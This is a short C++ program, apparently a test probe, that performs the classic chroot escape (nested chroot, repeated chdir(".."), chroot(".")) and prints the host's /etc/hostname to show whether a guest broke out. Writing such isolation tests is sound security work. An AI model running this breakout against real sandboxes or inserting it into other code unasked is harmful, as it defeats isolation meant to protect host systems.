// leave_chroot: does what a hostile command of a guest would do to leave a chroot, then prints
// /etc/hostname of wherever it got to. Static, for guests without libraries.

#include <array>
#include <cstdio>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

int main() {
    const char *directory = "/tmp/leave";
    if (mkdir(directory, 0700) != 0 || chroot(directory) != 0)
        return 1;
    for (int level = 0; level < 64; ++level)
        if (chdir("..") != 0)
            return 2;
    if (chroot(".") != 0 || rmdir(directory) != 0)
        return 3;
    std::array<char, 256> text{};
    const int file = open("/etc/hostname", O_RDONLY);
    const ssize_t size = read(file, text.data(), text.size());
    return size > 0 && write(STDOUT_FILENO, text.data(), static_cast<std::size_t>(size)) == size
               ? 0
               : 4;
}
